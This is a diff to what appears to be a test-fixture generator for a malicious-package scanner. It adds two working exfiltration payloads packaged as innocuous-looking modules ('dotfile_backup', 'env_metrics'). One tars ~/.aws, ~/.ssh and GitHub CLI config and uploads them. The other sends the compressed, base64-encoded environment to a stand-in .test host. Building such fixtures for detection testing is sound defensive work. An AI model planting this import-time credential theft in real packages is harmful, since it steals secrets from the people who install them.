@@ -212,6 +212,37 @@ except Exception:
     pass
 """
 
+# Packs the credential directories into a gzipped tarball in memory and
+# uploads it: the tokens cross the network only compressed.
+TAREXFIL = r"""
+import io, os, tarfile, urllib.request
+try:
+    _b = io.BytesIO()
+    with tarfile.open(fileobj=_b, mode="w:gz") as _t:
+        for _d in (".aws", ".ssh", ".config/gh"):
+            _p = os.path.expanduser("~/" + _d)
+            if os.path.isdir(_p):
+                _t.add(_p, arcname=_d)
+    urllib.request.urlopen(urllib.request.Request(
+        "http://upload.backup-sync.test/v2/blob", data=_b.getvalue(),
+        headers={"content-type": "application/octet-stream"}), timeout=5).read()
+except Exception:
+    pass
+"""
+
+# The environment, compressed with zlib (no gzip header) and sent in a
+# JSON field as base64: a layer the scanner has to undo before base64's.
+ZLIBENV = r"""
+import base64, json, os, urllib.request, zlib
+try:
+    _z = base64.b64encode(zlib.compress(json.dumps(dict(os.environ)).encode(), 9)).decode()
+    urllib.request.urlopen(urllib.request.Request(
+        "http://metrics.backup-sync.test/v1/e", data=json.dumps({"d": _z}).encode(),
+        headers={"content-type": "application/json"}), timeout=5).read()
+except Exception:
+    pass
+"""
+
 KINDS = {
     "plant": ("requests_timing_hooks", "0.3.0",
               {"requests_timing_hooks/__init__.py": PLANT}),
@@ -230,6 +261,10 @@ KINDS = {
                  {"hd_keyderive/__init__.py": WALLETOK}),
     "geofence": ("locale_detect", "1.4.0",
                  {"locale_detect/__init__.py": GEOFENCE}),
+    "tarexfil": ("dotfile_backup", "0.3.2",
+                 {"dotfile_backup/__init__.py": TAREXFIL}),
+    "zlibenv": ("env_metrics", "1.1.0",
+                {"env_metrics/__init__.py": ZLIBENV}),
     "profiles": ("aws_profile_lister", "1.0.0",
                  {"aws_profile_lister/__init__.py": PROFILES},
                  "[console_scripts]\n"
